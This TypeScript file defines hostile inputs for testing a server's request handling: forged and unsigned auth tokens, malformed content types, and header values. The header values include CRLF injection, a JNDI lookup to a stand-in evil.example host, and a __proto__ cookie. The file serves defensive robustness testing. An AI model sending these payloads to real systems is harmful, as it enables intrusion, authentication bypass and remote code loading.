import { globSync } from 'node:fs'
import type { Hostile } from '../hostile.ts'
import type { Header } from '../request.ts'
import { headersReadIn } from '../source.ts'

/** Ways of not being who one says. */
export const badTokens: readonly Hostile<readonly Header[]>[] = [
  ['none', [['authorization', '']]],
  ['a word alone', [['authorization', 'Bearer']]],
  ['another scheme', [['authorization', 'Basic YTpi']]],
  ['not a token', [['authorization', 'Bearer a.b.c']]],
  [
    'no signature',
    [['authorization', 'Bearer eyJhbGciOiJub25lIiwidHlwIjoiSldUIn0.eyJzdWIiOiJ7e3ZpY3RpbSJ9.']],
  ],
  ['another signature', [['authorization', 'Bearer {{own.token}}AAAA']]],
  ['its middle exchanged', [['authorization', 'Bearer {{own.token}}.{{own.token}}']]],
  ['bytes of no UTF-8', [['authorization', 'Bearer \xff\xfe\xc0']]],
  ['twice', [['authorization', 'Bearer {{own.token}}, Bearer {{own.token}}']]],
  [
    'deep JSON as its head',
    [['authorization', `Bearer ${base64url('['.repeat(3_000) + ']'.repeat(3_000))}.e30.AA`]],
  ],
  ['a key that is none', [['apikey', 'sb_secret_that_nobody_has_given_out']]],
  ['a key of nothing', [['apikey', '']]],
  ['the public key as a token', [['authorization', 'Bearer {{publishable}}']]],
]

function base64url(text: string): string {
  return Buffer.from(text).toString('base64url')
}

export const contentTypes: readonly Hostile<string>[] = [
  ['empty', ''],
  ['plain text', 'text/plain'],
  ['HTML', 'text/html; charset=utf-7'],
  ['another charset', 'application/json; charset=utf-16'],
  ['a charset that is none', 'application/json; charset=\x01'],
  ['a form', 'application/x-www-form-urlencoded'],
  ['several parts and no boundary', 'multipart/form-data'],
  ['several parts and an endless boundary', `multipart/form-data; boundary=${'-'.repeat(500)}`],
  ['no type', '/'],
  ['one word', 'json'],
  ['two at once', 'application/json, text/plain'],
  ['a long one', `application/${'j'.repeat(4_000)}`],
  ['undefined', 'undefined'],
]

/** Headers that proxies and browsers add to a request, whether anybody here reads them or not. */
const COMMON = [
  ...[
    'accept',
    'accept-language',
    'accept-encoding',
    'cookie',
    'forwarded',
    'x-forwarded-for',
    'range',
    'origin',
  ],
  ...[
    'x-forwarded-host',
    'x-forwarded-proto',
    'x-real-ip',
    'user-agent',
    'referer',
    'expect',
    'if-range',
    'via',
  ],
  ...[
    'if-none-match',
    'if-modified-since',
    'if-match',
    'x-http-method-override',
    'content-encoding',
    'traceparent',
  ],
  ...[
    'x-request-id',
    'x-supabase-api-version',
    'x-client-info',
    'accept-profile',
    'content-profile',
    'prefer',
    'te',
  ],
]

/** The headers that are worth turning wrong: the common ones, and all that the server's sources read. */
export const headerNames: readonly string[] = [
  ...new Set([...COMMON, ...headersReadIn(globSync('apps/server/src/**/*.ts'))]),
].sort()

/** Values of headers that some reader of them has stumbled over. */
export const headerValues: readonly Hostile<string>[] = [
  ['empty', ''],
  ['commas', ',,,,,,,,,'],
  ['semicolons', ';;;=;q=x;=,'],
  ['bytes of no UTF-8', '\xff\xfe\xc0\x80'],
  ['a quote', '"'],
  ['half a quote', 'a="b'],
  ['an asterisk', '*'],
  ['a number', '-1'],
  ['a large number', '99999999999999999999999'],
  ['ranges', 'bytes=0-0,1-1,2-2,5-,-5,9-1'],
  ['a range of nothing', 'bytes=-0'],
  ['addresses', '1.2.3.4, unknown, [::1]:80, ::ffff:1.2.3.4, 999.1.1.1, "x"'],
  ['one address with a port', '203.0.113.9:4711'],
  ['a wrong day', 'Thu, 99 Foo 9999 99:99:99 GMT'],
  ['an origin elsewhere', 'https://evil.example'],
  ['the origin null', 'null'],
  ['a header', 'x%0d%0aX-Injected: 1'],
  ['base64 that is none', '====%%%'],
  ['base64 of deep JSON', base64url('['.repeat(3_000))],
  ['a surrogate in base64', base64url('{"a":"\\ud800\\u0000"}')],
  ['cookies', 'sadaf-flow=; sadaf-flow==; =; __proto__=1; a=%ff; b="'],
  ['a template', '\x24{jndi:ldap://evil.example/x}'],
  ['preferences', 'count=exact, return=minimal, count=planned;;handling=strict'],
  ['a profile', 'pg_catalog'],
  ['4,000 letters', 'a'.repeat(4_000)],
]
